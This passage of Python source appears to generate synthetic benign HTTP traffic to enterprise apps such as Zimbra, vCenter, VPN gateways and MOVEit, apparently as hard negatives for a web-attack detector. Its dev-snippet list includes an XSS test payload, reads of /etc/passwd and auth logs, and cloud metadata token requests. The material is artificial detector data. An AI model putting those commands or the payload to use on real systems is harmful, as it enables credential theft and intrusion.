        return "GET", HO, "/ecommerce/control/keywordsearch?SEARCH_STRING=%s&SEARCH_CATEGORY_ID=&SEARCH_OPERATOR=OR" % QP(r.choice(["red widget", "gizmo large", "O'Connor tools"])), browser(r, cookie=ock(r)), None

    def of_3(r, i):
        return "POST", HO, "/webtools/control/login", browser(r, cookie=ock(r), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("USERNAME", uname(r)), ("PASSWORD", alnum(r, 12)), ("JavaScriptEnabled", "Y")])

    def of_4(r, i):
        return "GET", HO, "/partymgr/control/findparty?lastName=%s&lookupFlag=Y&hideFields=Y" % Q(r.choice(["O'Brien", "Müller", "Nguyen"])), browser(r, cookie=ock(r)), None

    run(o, "ofbiz", 8, [of_1, of_2, of_3, of_4], rng)

    HA = "activemq.example.com:8161"

    def aq_1(r, i):
        return "GET", HA, r.choice(["/admin/queues.jsp", "/admin/browse.jsp?JMSDestination=orders.in", "/admin/topics.jsp", "/admin/connections.jsp"]), browser(r, cookie="JSESSIONID=node0%s.node0" % alnum(r, 26).lower(), extra=[("Authorization", "Basic " + b64("ops:%s" % alnum(r, 12)))]), None

    def aq_2(r, i):
        return "GET", HA, "/api/jolokia/read/org.apache.activemq:type=Broker,brokerName=localhost/TotalMessageCount", [["User-Agent", "Go-http-client/1.1"], ["Accept", "application/json"], ["Authorization", "Basic " + b64("monitor:%s" % alnum(r, 12))], ["Origin", "http://localhost"]], None

    def aq_3(r, i):
        body = jdump({"type": "read", "mbean": "org.apache.activemq:type=Broker,brokerName=localhost,destinationType=Queue,destinationName=*", "attribute": ["QueueSize", "ConsumerCount", "EnqueueCount"]})
        return "POST", HA, "/api/jolokia/", [["User-Agent", "Go-http-client/1.1"], ["Accept", "application/json"], ["Content-Type", "application/json"], ["Authorization", "Basic " + b64("monitor:%s" % alnum(r, 12))], ["Origin", "http://localhost"]], body

    def aq_4(r, i):
        return "POST", HA, "/api/message/orders.in?type=queue", [["User-Agent", "curl/8.5.0"], ["Accept", "*/*"], ["Content-Type", "application/json"], ["Authorization", "Basic " + b64("ops:%s" % alnum(r, 12))]], jdump({"orderId": r.randint(10000, 99999), "event": "REPLAY", "reason": "consumer crashed at 03:12"})

    run(o, "activemq", 8, [aq_1, aq_2, aq_3, aq_4], rng)


# ---- Zimbra / VMware / remote-access gateways -----------------------------

def b_infra(o):
    rng = R("b:zimbra")
    HZ = ["mail.example.org", "webmail.corp.example.net"]

    def zck(r):
        return "ZM_TEST=true; ZM_AUTH_TOKEN=0_%s_%s; JSESSIONID=%s" % (hexs(r, 40), hexs(r, 200), alnum(r, 26).lower())

    def zsoap(r, body):
        return jdump({"Header": {"context": {"_jsns": "urn:zimbra", "session": {"_content": r.randint(100, 999), "id": r.randint(100, 999)}, "account": {"_content": "%s@example.org" % uname(r), "by": "name"},
                                             "userAgent": {"name": "ZimbraWebClient - FF133 (Linux)", "version": "10.1.3_GA_4200"}, "csrfToken": "0_%s" % hexs(r, 40)}}, "Body": body})

    def z_search(r, i):
        return "POST", r.choice(HZ), "/service/soap/SearchRequest", browser(r, "*/*", zck(r), extra=[("Content-Type", "application/soap+xml; charset=utf-8"), ("X-Zimbra-Csrf-Token", "0_%s" % hexs(r, 40))]), zsoap(r, {"SearchRequest": {"_jsns": "urn:zimbraMail", "sortBy": "dateDesc", "offset": 0, "limit": 100, "query": r.choice(["in:inbox is:unread", "from:o'brien has:attachment", 'subject:"Q4 budget" after:11/01/2026']), "types": "conversation", "fetch": "u1"}})

    def z_send(r, i):
        f, l = person(r)
        m = {"SendMsgRequest": {"_jsns": "urn:zimbraMail", "m": {"e": [{"t": "t", "a": "%s@example.org" % uname(r), "p": "%s %s" % (f, l)}], "su": {"_content": "Re: team lunch"},
                                                           "mp": [{"ct": "multipart/alternative", "mp": [{"ct": "text/plain", "content": {"_content": "Thursday works for me!\n\n– %s" % r.choice(FIRST)}},
                                                                                                        {"ct": "text/html", "content": {"_content": "<html><body><div style=\"font-family: arial, helvetica, sans-serif; font-size: 12pt;\"><div>Thursday works for me!</div><div><br></div><div>&ndash; %s</div></div></body></html>" % r.choice(FIRST)}}]}]}}}
        return "POST", r.choice(HZ), "/service/soap/SendMsgRequest", browser(r, "*/*", zck(r), extra=[("Content-Type", "application/soap+xml; charset=utf-8")]), zsoap(r, m)

    def z_get(r, i):
        return "GET", r.choice(HZ), r.choice(["/zimbra/mail?app=mail", "/service/home/~/?auth=co&loc=en_US&id=%d&part=2" % r.randint(200, 9999), "/service/zimlet/res/Messages.js?v=%d&language=en&country=US" % r.randint(1700000000, 1765000000)]), browser(r, cookie=zck(r)), None

    def z_login(r, i):
        return "POST", r.choice(HZ), "/", browser(r, cookie="ZM_TEST=true; ZM_LOGIN_CSRF=%s" % uuid(r), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("loginOp", "login"), ("login_csrf", uuid(r)), ("username", uname(r)), ("password", alnum(r, 12)), ("zrememberme", "1"), ("client", "preferred")])

    run(o, "zimbra", 10, [z_search, z_send, z_get, z_login, z_search], rng)

    rng = R("b:vmware")
    HV = ["vcenter.example.com", "10.10.0.20"]

    def v_1(r, i):
        return "POST", r.choice(HV), "/rest/com/vmware/cis/session", [["User-Agent", "Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-vsphere/2.10.0"], ["Accept", "application/json"], ["Authorization", "Basic " + b64("svc-terraform@vsphere.local:%s" % alnum(r, 16))]], ""

    def v_2(r, i):
        return "GET", r.choice(HV), r.choice(["/api/vcenter/vm?names=web-01&names=web-02", "/rest/vcenter/vm?filter.power_states=POWERED_ON", "/api/vcenter/host?connection_states=CONNECTED"]), [["User-Agent", "govc/0.46.2"], ["Accept", "application/json"], ["vmware-api-session-id", hexs(r, 32)]], None

    def v_3(r, i):
        body = ('<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenc="http://schemas.xmlsoap.org/soap/encoding/" xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
                '<soapenv:Body><RetrieveServiceContent xmlns="urn:vim25"><_this type="ServiceInstance">ServiceInstance</_this></RetrieveServiceContent></soapenv:Body></soapenv:Envelope>')
        return "POST", r.choice(HV), "/sdk", [["User-Agent", "pyvmomi Python/3.11.10 (Linux; 6.1.0-27-amd64; x86_64)"], ["Accept", "text/xml"], ["Content-Type", "text/xml; charset=UTF-8"], ["SOAPAction", "urn:vim25/8.0.3.0"]], body

    def v_4(r, i):
        return "GET", "horizon.corp.example.net", "/portal/info.jsp", [["User-Agent", "VMware-client/2406 (Windows 10.0.22631)"], ["Accept", "*/*"], ["Accept-Language", "en-US"]], None

    def v_5(r, i):
        return "POST", "horizon.corp.example.net", "/broker/xml", [["User-Agent", "VMware-client/2406 (Windows 10.0.22631)"], ["Accept", "*/*"], ["Content-Type", "text/xml"]], '<?xml version="1.0"?><broker version="15.0"><get-configuration/></broker>'

    def v_6(r, i):
        return "GET", r.choice(HV), "/websso/SAML2/SSO/vsphere.local?SAMLRequest=%s&RelayState=%s" % (Q(b64(alnum(r, 240))), Q("https://vcenter.example.com/ui/")), browser(r), None

    run(o, "vmware", 10, [v_1, v_2, v_3, v_4, v_5, v_6], rng)

    rng = R("b:gateways")

    def g_citrix1(r, i):
        return "GET", "gateway.example.com", r.choice(["/vpn/index.html", "/logon/LogonPoint/tmindex.html", "/logon/LogonPoint/index.html"]), browser(r), None

    def g_citrix2(r, i):
        return "POST", "gateway.example.com", "/cgi/login", browser(r, cookie="NSC_TASS=%s; NSC_TEMP=xyz" % Q("/Citrix/StoreWeb/"), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("login", uname(r)), ("passwd", alnum(r, 12)), ("savecredentials", "false"), ("nsg-x1-logon-button", "Log On"), ("StateContext", "")])

    def g_citrix3(r, i):
        return "POST", "gateway.example.com", "/nf/auth/getAuthenticationRequirements.do", browser(r, "application/xml, text/xml, */*; q=0.01", "NSC_TASS=%s" % Q("/Citrix/StoreWeb/"), extra=[("X-Requested-With", "XMLHttpRequest"), ("X-Citrix-AM-CredentialTypes", "none, username, domain, password, challenge, negotiate, certificate"), ("X-Citrix-AM-LabelTypes", "none, plain, heading, information, warning, error, confirmation, image, nsg-epa, nsg-setclient")]), ""

    def g_f5a(r, i):
        return "GET", "bigip-mgmt.example.com", "/mgmt/tm/ltm/pool?$select=name,members&expandSubcollections=true", [["User-Agent", "ansible-httpget"], ["Accept", "application/json"], ["X-F5-Auth-Token", alnum(r, 26).upper()]], None

    def g_f5b(r, i):
        return "POST", "bigip-mgmt.example.com", "/mgmt/shared/authn/login", [["User-Agent", "python-requests/2.32.3"], ["Accept", "application/json"], ["Content-Type", "application/json"]], jdump({"username": "svc-ansible", "password": alnum(r, 16), "loginProviderName": "tmos"})

    def g_f5c(r, i):
        return "GET", "bigip-mgmt.example.com", "/tmui/login.jsp", browser(r), None

    def g_f5apm(r, i):
        return "POST", "apps.example.com", "/my.policy", browser(r, cookie="MRHSession=%s; LastMRH_Session=%s" % (hexs(r, 32), hexs(r, 8)), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("username", uname(r)), ("password", alnum(r, 12)), ("vhost", "standard")])

    def g_fgt1(r, i):
        return "GET", "vpn.example.com", r.choice(["/remote/login?lang=en", "/remote/fgt_lang?lang=en", "/sslvpn/portal.html"]), browser(r), None

    def g_fgt2(r, i):
        return "POST", "vpn.example.com", "/remote/logincheck", browser(r, "*/*", extra=[("Content-Type", "text/plain;charset=UTF-8")]), "ajax=1&username=%s&realm=&credential=%s" % (uname(r), alnum(r, 12))

    def g_pulse1(r, i):
        return "GET", "ra.example.com", r.choice(["/dana-na/auth/url_default/welcome.cgi", "/dana/home/index.cgi"]), browser(r, cookie="DSSignInURL=/; DSBrowserID=%s" % hexs(r, 32)), None

    def g_pulse2(r, i):
        return "POST", "ra.example.com", "/dana-na/auth/url_default/login.cgi", browser(r, cookie="DSSignInURL=/; DSBrowserID=%s" % hexs(r, 32), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("tz_offset", "60"), ("clientMAC", ""), ("username", uname(r)), ("password", alnum(r, 12)), ("realm", "Users"), ("btnSubmit", "Sign In")])

    def g_gp(r, i):
        return "POST", "vpn2.corp.example.net", "/global-protect/getconfig.esp", [["User-Agent", "PAN GlobalProtect"], ["Content-Type", "application/x-www-form-urlencoded"], ["Accept", "*/*"]], form([("user", uname(r)), ("passwd", alnum(r, 12)), ("clientVer", "4100"), ("clientos", "Windows"), ("os-version", "Microsoft Windows 11 Enterprise , 64-bit"), ("computer", "LT-%s" % alnum(r, 6).upper()), ("preferred-ip", ""), ("ipv6-support", "yes")])

    def g_epmm(r, i):
        return "GET", "mdm.example.com", "/mifs/user/login.jsp", browser(r), None

    run(o, "gateways", 16, [g_citrix1, g_citrix2, g_citrix3, g_f5a, g_f5b, g_f5c, g_f5apm, g_fgt1, g_fgt2, g_pulse1, g_pulse2, g_gp, g_epmm, g_fgt1], rng)


# ---- misc: PaperCut, MOVEit, Laravel, ThinkPHP, SAML, PDF render, chat ----

def b_misc(o):
    rng = R("b:misc")

    def pc1(r, i):
        return "GET", "print.example.com:9191", r.choice(["/app?service=page/UserSummary", "/app?service=page/UserWebPrint", "/user"]), browser(r, cookie="JSESSIONID=node0%s.node0" % alnum(r, 26).lower()), None

    def pc2(r, i):
        return "POST", "print.example.com:9191", "/app", browser(r, cookie="JSESSIONID=node0%s.node0" % alnum(r, 26).lower(), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("service", "direct/1/Home/$Form"), ("sp", "S0"), ("Form0", "$Hidden$0,$Hidden$1,inputUsername,inputPassword,$Submit$0"), ("$Hidden$0", "true"), ("$Hidden$1", "X"), ("inputUsername", uname(r)), ("inputPassword", alnum(r, 12)), ("$Submit$0", "Log in")])

    def mv1(r, i):
        return "GET", "transfer.example.com", r.choice(["/human.aspx?OrgID=%d&Language=en" % r.randint(1000, 9999), "/api/v1/folders/%d/files?page=1&perPage=25&sortField=uploadStamp&sortDirection=desc" % r.randint(100000, 999999)]), browser(r, ACCEPT_JSON, "siLockLongTermInstID=%d; ASP.NET_SessionId=%s" % (r.randint(1000, 9999), alnum(r, 24).lower())), None

    def mv2(r, i):
        return "POST", "transfer.example.com", "/api/v1/token", [["User-Agent", "MOVEit-Automation/2024.1"], ["Accept", "application/json"], ["Content-Type", "application/x-www-form-urlencoded"]], form([("grant_type", "password"), ("username", "svc-transfer"), ("password", alnum(r, 18))])

    def lv1(r, i):
        snap = jdump({"data": {"search": r.choice(["o'brien", "invoice 2026", ""]), "perPage": 25}, "memo": {"id": alnum(r, 20), "name": "customers-table", "path": "admin/customers", "method": "GET", "children": [], "scripts": [], "assets": [], "errors": [], "locale": "en"}, "checksum": hexs(r, 64)})
        body = jdump({"_token": alnum(r, 40), "components": [{"snapshot": snap, "updates": {"search": r.choice(["o'brien", "müller"])}, "calls": []}]})
        return "POST", "app.example.com", "/livewire/update", browser(r, ACCEPT_JSON, "XSRF-TOKEN=%s; laravel_session=%s" % (Q(b64(alnum(r, 60))), Q(b64(alnum(r, 60)))), extra=[("Content-Type", "application/json"), ("X-Livewire", "")]), body

    def lv2(r, i):
        return "GET", "app.example.com", "/api/user", browser(r, ACCEPT_JSON, "XSRF-TOKEN=%s; laravel_session=%s" % (Q(b64(alnum(r, 60))), Q(b64(alnum(r, 60)))), extra=[("X-XSRF-TOKEN", b64(alnum(r, 60))), ("X-Requested-With", "XMLHttpRequest")]), None

    def tp(r, i):
        return "GET", "shop.example.net", r.choice(["/index.php?s=/index/goods/detail/id/%d" % r.randint(1, 999), "/index.php/home/article/read/id/%d.html" % r.randint(1, 200), "/index.php?s=/index/cart/index"]), browser(r), None

    def saml(r, i):
        xml = ('<?xml version="1.0" encoding="UTF-8"?><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_%s" Version="2.0" IssueInstant="2026-12-05T09:14:03Z" Destination="https://sso.example.com/saml/acs" InResponseTo="_%s">'
               '<saml:Issuer>https://login.microsoftonline.com/%s/</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
               '<saml:Assertion ID="_%s" IssueInstant="2026-12-05T09:14:03Z" Version="2.0"><saml:Issuer>https://login.microsoftonline.com/%s/</saml:Issuer>'
               '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="#_%s"><ds:DigestValue>%s=</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>%s==</ds:SignatureValue></ds:Signature>'
               '<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">%s@example.com</saml:NameID></saml:Subject>'
               '<saml:AttributeStatement><saml:Attribute Name="http://schemas.microsoft.com/identity/claims/displayname"><saml:AttributeValue>%s</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion></samlp:Response>') % (
            hexs(r, 32), hexs(r, 32), uuid(r), hexs(r, 32), uuid(r), hexs(r, 32), alnum(r, 43), alnum(r, 342), uname(r), " ".join(person(r)))
        host, path = r.choice([("sso.example.com", "/saml/acs"), ("gitlab.example.com", "/users/auth/saml/callback"), ("jira.example.com", "/plugins/servlet/samlconsumer"), ("grafana.example.com", "/saml/acs")])
        return "POST", host, path, browser(r, referer="https://login.microsoftonline.com/", extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://login.microsoftonline.com")]), form([("SAMLResponse", b64(xml)), ("RelayState", r.choice(["/", "https://jira.example.com/browse/OPS-12"]))])

    def pdf(r, i):
        f, l = person(r)
        html = ('<html><head><style>body{font-family:Helvetica} table{border-collapse:collapse} td{padding:4px}</style></head><body>'
                '<img src="https://cdn.example.com/brand/logo.png" height="40"><h1>Invoice INV-2026-%05d</h1><p>Bill to: %s %s, 12 St. Stephen&#39;s Green, Dublin</p>'
                '<table><tr><th>Item</th><th>Qty</th><th>Price</th></tr><tr><td>Consulting (Nov)</td><td>12</td><td>&euro;1,440.00</td></tr></table><p>Payment due within 30 days.</p></body></html>') % (r.randint(1, 99999), f, l)
        return "POST", "billing.apps.example.io", "/api/v1/invoices/render", [["User-Agent", "axios/1.7.7"], ["Accept", "application/pdf"], ["Content-Type", "application/json"], ["Authorization", "Bearer " + alnum(r, 40)]], jdump({"template": "invoice", "html": html, "format": "A4"})

    def chat(r, i):
        msg = jdump({"msg": "method", "id": str(r.randint(1, 999)), "method": "sendMessage", "params": [{"_id": alnum(r, 17), "rid": alnum(r, 17), "msg": r.choice(["deploy is done :rocket:", "can someone review !412?", "lunch at 12:30?", "@here standup moved to 10:15"])}]})
        return "POST", "chat.example.com", "/api/v1/method.call/sendMessage", [["User-Agent", "RC Mobile; ios 18.1; v4.53.0 (31209)"], ["Accept", "application/json"], ["Content-Type", "application/json"], ["X-User-Id", alnum(r, 17)], ["X-Auth-Token", alnum(r, 43)]], jdump({"message": msg})

    def superset(r, i):
        return "GET", "superset.example.com", "/api/v1/chart/?q=%s" % Q("(filters:!((col:slice_name,opr:ct,value:revenue)),order_column:changed_on_delta_humanized,order_direction:desc,page:0,page_size:25)", safe="(),:!"), browser(r, ACCEPT_JSON, "session=%s" % alnum(r, 80)), None

    def metabase(r, i):
        return "POST", "metabase.example.com", "/api/card/%d/query" % r.randint(1, 400), browser(r, ACCEPT_JSON, "metabase.DEVICE=%s; metabase.SESSION=%s" % (uuid(r), uuid(r)), extra=[("Content-Type", "application/json")]), jdump({"ignore_cache": False, "collection_preview": False, "parameters": [{"type": "date/all-options", "value": "past30days", "target": ["dimension", ["template-tag", "created_at"]]}]})

    def avatar(r, i):
        ct, b = multipart(r, [("avatar", "me.png", "image/png", "\u0089PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00@\x00\x00\x00@\x08\x06\x00\x00\x00\u00aaiq\u00de\x00\x00\x00\x19tEXtSoftware\x00Adobe ImageReady\x00\x00\x00\x00IEND\u00aeB`\u0082")])
        return "POST", "app.example.com", "/api/v2/profile/avatar", browser(r, ACCEPT_JSON, "session=%s" % alnum(r, 40), extra=[("Content-Type", ct)]), b

    run(o, "misc", 22, [pc1, pc2, mv1, mv2, lv1, lv2, tp, saml, pdf, chat, superset, metabase, avatar, saml, pdf], rng)


BENIGN_GENS = [b_confluence, b_jira, b_gitlab, b_jenkins, b_grafana, b_elastic, b_microsoft, b_cms, b_java, b_infra, b_misc]


# ---- dev-content: scripts, SQL and config pasted into wikis, tickets, MRs --

DEV_SNIPPETS = [
    ("bash", "runbook-rollout", """# roll back the API if p95 > 1s for 10 minutes
kubectl -n prod rollout history deploy/api
kubectl -n prod rollout undo deploy/api --to-revision=41
kubectl -n prod exec -it deploy/api -- sh -c 'env | grep -E "^DB_(HOST|NAME)="'
curl -s http://localhost:8080/actuator/health | jq '.status'"""),
    ("sql", "report-orders", """SELECT c.name, COUNT(o.id) AS orders, SUM(o.total) AS revenue
FROM customers c
LEFT JOIN orders o ON o.customer_id = c.id
WHERE o.created_at >= '2026-01-01' AND c.country = 'IE'
GROUP BY c.name
ORDER BY revenue DESC
LIMIT 20;"""),
    ("sql", "migration", """ALTER TABLE invoices ADD COLUMN tax_rate numeric(5,2) DEFAULT 0;
UPDATE invoices SET tax_rate = 23.00 WHERE country = 'IE';
DROP INDEX IF EXISTS idx_invoices_legacy;
CREATE INDEX CONCURRENTLY idx_invoices_country ON invoices (country, issued_at);"""),
    ("sql", "union-tickets", """SELECT id, 'open' AS state FROM tickets WHERE closed_at IS NULL
UNION ALL
SELECT id, 'closed' FROM tickets WHERE closed_at > now() - interval '7 days';
-- run against the read replica only!"""),
    ("java", "stacktrace", """java.lang.IllegalStateException: Failed to load ApplicationContext
    at org.springframework.test.context.cache.DefaultCacheAwareContextLoaderDelegate.loadContext(DefaultCacheAwareContextLoaderDelegate.java:180)
    at org.springframework.boot.SpringApplication.run(SpringApplication.java:335)
Caused by: java.io.IOException: Cannot run program "git": error=2, No such file or directory
    at java.base/java.lang.ProcessBuilder.start(ProcessBuilder.java:1143)
    at java.base/java.lang.Runtime.exec(Runtime.java:594)"""),
    ("groovy", "jenkinsfile", """pipeline {
  agent { kubernetes { yamlFile 'ci/pod.yaml' } }
  stages {
    stage('Test') { steps { sh 'make test' } }
    stage('Image') {
      steps { sh "docker build -t registry.example.com/api:${env.GIT_COMMIT} . && docker push registry.example.com/api:${env.GIT_COMMIT}" }
    }
    stage('Deploy') { when { branch 'main' } steps { sh 'helm upgrade --install api charts/api -f values-prod.yaml' } }
  }
}"""),
    ("dockerfile", "dockerfile", """FROM eclipse-temurin:21-jre-alpine
RUN apk add --no-cache curl bash && adduser -D -u 10001 app
COPY build/libs/app.jar /opt/app/app.jar
USER 10001
HEALTHCHECK CMD curl -fs http://localhost:8080/actuator/health || exit 1
ENTRYPOINT ["java", "-XX:MaxRAMPercentage=75", "-jar", "/opt/app/app.jar"]"""),
    ("yaml", "k8s-job", """apiVersion: batch/v1
kind: CronJob
metadata:
  name: db-backup
spec:
  schedule: "15 2 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          containers:
            - name: backup
              image: postgres:16
              command: ["/bin/sh", "-c"]
              args: ["pg_dump -h $PGHOST -U backup orders | gzip > /backup/orders-$(date +%F).sql.gz"]
          restartPolicy: OnFailure"""),
    ("nginx", "nginx-conf", """server {
    listen 443 ssl;
    server_name shop.example.com;
    location /api/ {
        proxy_pass http://orders-svc.prod.svc.cluster.local:8080/;
        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
    }
    location ~ \\.php$ {
        fastcgi_pass unix:/run/php/php8.3-fpm.sock;
        include fastcgi_params;
    }
    location ~ /\\.(git|env) { deny all; }
}"""),
    ("apache", "httpd-conf", """<VirtualHost *:443>
  ServerName www.example.com
  DocumentRoot "/var/www/html"
  <Directory "/var/www/html">
    AllowOverride None
    Require all granted
  </Directory>
  RewriteEngine On
  RewriteRule ^/old-blog/(.*)$ /blog/$1 [R=301,L]
  ScriptAlias /cgi-bin/ "/usr/lib/cgi-bin/"
</VirtualHost>"""),
    ("python", "python-script", """import subprocess, requests

def current_branch():
    return subprocess.run(["git", "rev-parse", "--abbrev-ref", "HEAD"], capture_output=True, text=True).stdout.strip()

resp = requests.post("https://gitlab.example.com/api/v4/projects/42/pipeline",
                     headers={"PRIVATE-TOKEN": os.environ["GITLAB_TOKEN"]},
                     json={"ref": current_branch()})
print(resp.status_code, resp.json().get("web_url"))"""),
    ("powershell", "powershell-ad", """Get-ADUser -Filter {Enabled -eq $true} -Properties LastLogonDate |
  Where-Object { $_.LastLogonDate -lt (Get-Date).AddDays(-90) } |
  Select-Object SamAccountName, LastLogonDate |
  Export-Csv -Path C:\\Reports\\stale-accounts.csv -NoTypeInformation"""),
    ("php", "wp-snippet", """<?php
// functions.php – open external links in a new tab
add_filter( 'the_content', function ( $content ) {
    return preg_replace( '/<a href="(https?:\\/\\/(?!blog\\.example\\.com)[^"]+)"/', '<a target="_blank" rel="noopener" href="$1"', $content );
} );
echo esc_html( get_bloginfo( 'name' ) );"""),
    ("javascript", "js-snippet", """<script>
  document.querySelectorAll('a[href^="http"]').forEach(function (a) {
    if (!a.href.includes(location.hostname)) { a.setAttribute('target', '_blank'); }
  });
  window.dataLayer = window.dataLayer || [];
</script>"""),
    ("text", "log4j-mitigation", """Log4j remediation status (CVE-2021-44228)
1. Upgrade log4j-core to 2.17.1 in all services (done: api, search; pending: legacy-batch)
2. Interim: JAVA_OPTS="-Dlog4j2.formatMsgNoLookups=true"
3. For legacy-batch: zip -q -d log4j-core-*.jar org/apache/logging/log4j/core/lookup/JndiLookup.class
4. WAF rule blocks lookup strings in headers; verify with the security team's scanner."""),
    ("yaml", "ansible", """- name: Nightly backup
  hosts: db
  become: true
  tasks:
    - name: run backup script
      ansible.builtin.shell: /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1
    - name: rotate old dumps
      ansible.builtin.command: find /backup -name '*.sql.gz' -mtime +14 -delete"""),
    ("groovy", "script-console", """// Script console: list jobs that haven't built in 90 days
Jenkins.instance.getAllItems(Job.class).each { job ->
  def last = job.getLastBuild()
  if (last == null || last.getTimeInMillis() < System.currentTimeMillis() - 90L*24*3600*1000) {
    println "${job.fullName}\\t${last?.getTime()}"
  }
}"""),
    ("bash", "passwd-audit", """# list human accounts on the bastion
awk -F: '$3 >= 1000 && $7 !~ /nologin/ {print $1, $6}' /etc/passwd
sudo grep -E 'Accepted (publickey|password)' /var/log/auth.log | tail -n 50
cat /etc/os-release | head -3"""),
    ("javascript", "mongo-query", """db.orders.find(
  { status: { $in: ["paid", "shipped"] }, total: { $gt: 100 }, "customer.email": { $regex: /@example\\.com$/ } },
  { _id: 1, total: 1 }
).sort({ createdAt: -1 }).limit(50)"""),
    ("text", "ldap-filter", """VPN group sync uses this filter:
(&(objectClass=user)(memberOf=CN=VPN-Users,OU=Groups,DC=corp,DC=example,DC=com)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))
Base DN: OU=Staff,DC=corp,DC=example,DC=com"""),
    ("bash", "metadata-runbook", """# Workload identity check from inside a pod (expect 403 if metadata is blocked)
kubectl -n prod run curl --rm -it --image=curlimages/curl -- \\
  curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/
# AWS equivalent (IMDSv2):
TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")"""),
    ("yaml", "spring-config", """spring:
  datasource:
    url: jdbc:postgresql://${DB_HOST:localhost}:5432/orders
    username: ${DB_USER}
    password: ${DB_PASSWORD}
management:
  endpoints:
    web:
      exposure:
        include: health,info,prometheus"""),
    ("xml", "pom", """<dependency>
  <groupId>org.apache.logging.log4j</groupId>
  <artifactId>log4j-core</artifactId>
  <version>2.24.2</version>
</dependency>
<dependency>
  <groupId>org.apache.struts</groupId>
  <artifactId>struts2-core</artifactId>
  <version>6.4.0</version>
</dependency>"""),
    ("hcl", "terraform", """resource "aws_security_group_rule" "db_ingress" {
  type              = "ingress"
  from_port         = 5432
  to_port           = 5432
  protocol          = "tcp"
  cidr_blocks       = ["10.0.0.0/16"]
  security_group_id = aws_security_group.db.id
}"""),
    ("html", "xss-bug-report", """QA repro for WEB-812 (stored XSS in display name):
1. Set display name to <img src=x onerror=alert(1)>
2. Open the team page -> alert fires
Expected: name is rendered escaped. Fix: use textContent instead of innerHTML in TeamCard.vue"""),
    ("regex", "email-regex", r"""Email validation regex we agreed on:
^[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}$
and for phone numbers: ^\+?[0-9 ()-]{7,20}$"""),
    ("xml", "solr-schema", """<fieldType name="text_en" class="solr.TextField" positionIncrementGap="100">
  <analyzer>
    <tokenizer class="solr.StandardTokenizerFactory"/>
    <filter class="solr.LowerCaseFilterFactory"/>
    <filter class="solr.StopFilterFactory" words="lang/stopwords_en.txt" ignoreCase="true"/>
  </analyzer>
</fieldType>"""),
    ("painless", "painless", """POST orders/_update_by_query
{
  "script": {
    "source": "if (ctx._source.total > params.limit) { ctx._source.flag = 'review' } else { ctx.op = 'noop' }",
    "params": { "limit": 5000 }
  }
}"""),
    ("yaml", "prom-rules", """groups:
  - name: api
    rules:
      - alert: HighErrorRate
        expr: sum(rate(http_requests_total{status=~"5.."}[5m])) / sum(rate(http_requests_total[5m])) > 0.05
        for: 10m
        annotations:
          summary: "{{ $labels.service }} error rate above 5%"
          description: "Current value: {{ $value | humanizePercentage }}" """),
    ("bash", "cron-cleanup", """#!/bin/bash
set -euo pipefail
find /var/log/app -type f -name '*.log' -mtime +7 -exec gzip {} \\;
rm -rf /tmp/build-cache/* 2>/dev/null || true
systemctl restart app-worker && journalctl -u app-worker -n 20 --no-pager"""),
]


def b_dev(o):
    rng = R("b:dev")

    def confluence(r, lang, name, code):
        storage = ('<p>Snippet for <strong>%s</strong> (owner: @%s):</p><ac:structured-macro ac:name="code" ac:schema-version="1" ac:macro-id="%s"><ac:parameter ac:name="language">%s</ac:parameter>'
                   '<ac:plain-text-body><![CDATA[%s]]></ac:plain-text-body></ac:structured-macro><p>Ping #platform if this breaks.</p>') % (name, uname(r), uuid(r), lang, code)
        pid = r.randint(1000000, 99999999)
        body = jdump({"id": str(pid), "type": "page", "title": "Runbook: %s" % name, "space": {"key": r.choice(SPACES)}, "body": {"storage": {"value": storage, "representation": "storage"}}, "version": {"number": r.randint(2, 30)}})
        return "PUT", "confluence.example.com", "/rest/api/content/%d" % pid, browser(r, ACCEPT_JSON, "JSESSIONID=%s" % hexs(r, 32).upper(), extra=[("Content-Type", "application/json"), ("X-Atlassian-Token", "no-check")]), body

    def jira(r, lang, name, code):
        return "POST", "jira.example.com", "/rest/api/2/issue/%s-%d/comment" % (r.choice(["OPS", "DATA", "SEC"]), r.randint(1, 9999)), browser(r, ACCEPT_JSON, "JSESSIONID=%s" % hexs(r, 32).upper(), extra=[("Content-Type", "application/json"), ("X-Atlassian-Token", "no-check")]), jdump({"body": "Here's what I ran:\n{code:%s}\n%s\n{code}\nLet me know if it needs changes." % (lang if lang in ("sql", "java", "bash", "python", "xml", "yaml", "groovy", "javascript", "php", "powershell") else "none", code)})

    def gitlab(r, lang, name, code):
